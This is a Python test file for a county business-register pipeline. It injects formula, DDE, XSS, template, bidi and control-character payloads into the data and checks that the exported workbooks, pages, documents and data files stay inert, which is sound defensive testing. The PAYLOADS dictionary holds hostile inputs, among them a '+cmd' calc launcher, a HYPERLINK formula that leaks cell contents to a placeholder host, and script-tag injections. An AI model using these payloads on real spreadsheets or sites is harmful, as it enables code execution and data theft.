"""Nothing that stands in the data takes effect in an output: no formula, script, markup, hidden or turning character."""

from __future__ import annotations

import html.parser
import json
import re
import sqlite3
import unicodedata
import zipfile

import geopandas
import openpyxl
import pyarrow.parquet as pq
import pytest

from tests.trust import county
from tests.trust.conftest import minglu
from tests.trust.test_leaks import unpacked

PAYLOADS = {
    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"甲")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(2)>",
    "attribute": '" onmouseover="alert(3)',
    "template": "{{7*7}}${7*7}<%=7*7%>",
    "xml": "<w:t>x</w:t>]]><!--&xx;_x0041_",
    "bidi": "甲\u202e厂纸\u202c\u2066乙\u2069\u061c",
    "separators": "甲\u2028乙\u2029丙\x85丁",
    "control": "甲\x01\x08\x1b[31m乙\x7f",
    "hidden": "甲\u200b\u200d\ufeff\u2060乙\u00ad",
    "newline": "甲\n=1+1\r\n+1+1",
    "noncharacter": "甲\ufffe\uffff乙",
    "tag": "甲\U000e0041乙",
    "url": "http://x.invalid/a",
    "link": "file:///etc/passwd",
}
TEXT_COLUMNS = {
    "business": (
        "企业名称",
        "曾用名",
        "住所",
        "经营地址",
        "行业代码",
        "行业名称",
        "登记状态",
        "区划代码",
        "统一社会信用代码",
        "注册号",
    ),
    "permit": ("排污许可证编号", "单位名称", "生产经营场所地址", "行业类别", "行业代码", "运行状态", "普查小区代码"),
}
UNFIT = {"Cc", "Cs", "Zl", "Zp"}
TURNING = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """A county with each payload in every text column of some row: alone, and behind a plausible value."""
    lists = county.lists()
    rows = {kind: list(found) for kind, found in lists.rows.items()}
    for kind, columns in TEXT_COLUMNS.items():
        heading = lists.headings[kind]
        for at, payload in enumerate(PAYLOADS.values()):
            model = rows[kind][at % len(lists.rows[kind])]
            for form in (payload, f"青禾县{payload}食品厂"):
                cells = {
                    h: (f"{form}{c}" if h in ("企业名称", "单位名称") else form) if h in columns else c
                    for c, h in zip(model, heading, strict=True)
                }
                rows[kind].append(tuple(cells.values()))
    census = county.make_county(tmp_path_factory.mktemp("injected") / "county", lists.with_rows(rows))
    text = census.read_text("utf-8").replace('name = "试验县"', 'name = "=1+1<script>alert(4)</script>"')
    census.write_text(text, "utf-8")
    return county.run(census)


def bad(text):
    return [
        c
        for c in text
        if unicodedata.category(c) in UNFIT - {"Cc"}
        or c in TURNING
        or (unicodedata.category(c) == "Cc" and c not in "\n\t\r")
    ]


@pytest.fixture(scope="module")
def handed_out(injected):
    """What is made of a run folder for people: field sheets, review sheets and pages that say why."""
    to = injected.parent / "handed"
    to.mkdir()
    asked = [["sheets", injected, "--to", to / "field"], ["review", injected, "--to", to / "review", "--with-scores"]]
    scripted = next(row["unit_id"] for row in county.table(injected, "units") if "<script>" in row["name"])
    asked.append(["explain", injected, scripted, "--html", to / "why.html"])
    for arguments in asked:
        done = minglu(*arguments)
        assert done.returncode in {0, 1}, done.stderr.decode()
    return sorted(path for path in to.rglob("*") if path.is_file())


def workbooks(paths):
    found = [path for path in paths if path.suffix == ".xlsx"]
    assert found
    return found


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(injected, handed_out):
    """Neither for openpyxl nor in the XML itself; nothing is fetched when a workbook opens."""
    for path in workbooks([*sorted(injected.iterdir()), *handed_out]):
        book = openpyxl.load_workbook(path)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
        assert not [cell.coordinate for cell in cells if isinstance(cell.value, str) and bad(cell.value)]
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                content = archive.read(name)
                assert b"<f>" not in content
                assert b"<f " not in content
                assert b'TargetMode="External"' not in content


def test_the_payloads_reached_the_workbook_as_text(injected):
    """The tests above looked at something: a name that starts with = is there, as text."""
    book = openpyxl.load_workbook(injected / "register.xlsx", read_only=True)
    values = [value for sheet in book for row in sheet.values for value in row if isinstance(value, str)]
    book.close()
    assert any("HYPERLINK" in value for value in values)
    assert any("<script>" in value for value in values)


class Page(html.parser.HTMLParser):
    """What a browser would run or fetch."""

    def __init__(self):
        super().__init__()
        self.events, self.scripts, self.links = [], 0, []

    def handle_starttag(self, tag, attrs):
        """Note what an element would do."""
        self.scripts += tag == "script"
        self.events += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value for name, value in attrs if name in {"src", "href", "action"} and value]


def test_the_page_runs_and_fetches_nothing_of_the_data(injected, built):
    """As many scripts as without payloads, no event handlers, no addresses outside the page."""
    found, clean = Page(), Page()
    found.feed((injected / "report.html").read_text("utf-8"))
    clean.feed((built / "report.html").read_text("utf-8"))
    assert found.scripts == clean.scripts
    assert found.events == clean.events
    outside = [link for link in found.links if not link.startswith(("#", "data:")) and "://" in link]
    assert [link for link in outside if link not in clean.links] == []
    for part in unpacked(injected / "report.html"):
        assert b"</script><script>alert(" not in part
    assert not bad((injected / "report.html").read_text("utf-8"))


def test_pages_for_people_run_nothing_of_the_data(handed_out):
    """Review sheets and reasons as pages: no handler, no script, no address that a name brought along."""
    pages = [path for path in handed_out if path.suffix == ".html"]
    assert len(pages) > 1
    for path in pages:
        text, found = path.read_text("utf-8"), Page()
        found.feed(text)
        assert found.events == []
        assert not [link for link in found.links if "://" in link], path.name
        assert "<script>alert(" not in text
        assert "<img src=x" not in text
        assert not bad(text), path.name
    assert any("&lt;script&gt;" in path.read_text("utf-8") for path in pages), "the payloads reached the pages as text"


def test_the_summary_is_sound_xml_without_turning_characters(injected):
    """Word refuses a document with a control character."""
    import docx

    texts = [paragraph.text for paragraph in docx.Document(injected / "report.docx").paragraphs]
    assert texts
    assert not [text for text in texts if bad(text)]
    with zipfile.ZipFile(injected / "report.docx") as archive:
        relations = [archive.read(name) for name in archive.namelist() if name.endswith(".rels")]
    assert not [content for content in relations if b'TargetMode="External"' in content]


def test_json_is_json_for_every_reader(injected):
    """No NaN, no lone surrogate, no raw line separator that a script would take for a line end."""
    for path in injected.glob("*.json"):
        text = path.read_bytes().decode("utf-8")
        json.loads(text, parse_constant=pytest.fail)
        assert not bad(text), path.name


def test_the_geopackage_keeps_plain_texts(injected):
    """Texts for a map program's labels; the layers open."""
    layer = geopandas.read_file(injected / "register.gpkg", layer="units")
    texts = [value for column in layer.columns for value in layer[column] if isinstance(value, str)]
    assert any("HYPERLINK" in text for text in texts)
    assert not [text for text in texts if bad(text)]
    with sqlite3.connect(f"file:{injected / 'register.gpkg'}?mode=ro", uri=True) as database:
        assert database.execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_parquet_keeps_the_raw_value(injected):
    """What the office sent can be read back to the letter."""
    raw = pq.read_table(injected / "tables" / "entries.parquet").column("raw_name").to_pylist()
    rejected = {row["row"] for row in county.table(injected, "rejects")}
    for what, payload in PAYLOADS.items():
        assert any(payload in name for name in raw) or rejected or what == "newline", what
    assert sum("HYPERLINK" in name for name in raw) >= 2


def test_no_file_name_comes_from_the_data(injected, built):
    """The run folder has the same files whatever the data say, and none is a CSV, whose cells a spreadsheet would run."""
    assert {name.rpartition(".")[2] for name in county.digests(injected)} == {
        "docx",
        "gpkg",
        "html",
        "json",
        "parquet",
        "xlsx",
    }
    assert county.digests(injected).keys() == county.digests(built).keys()
    assert not [name for name in county.digests(injected) if re.search(r"[^A-Za-z0-9_./-]", name)]
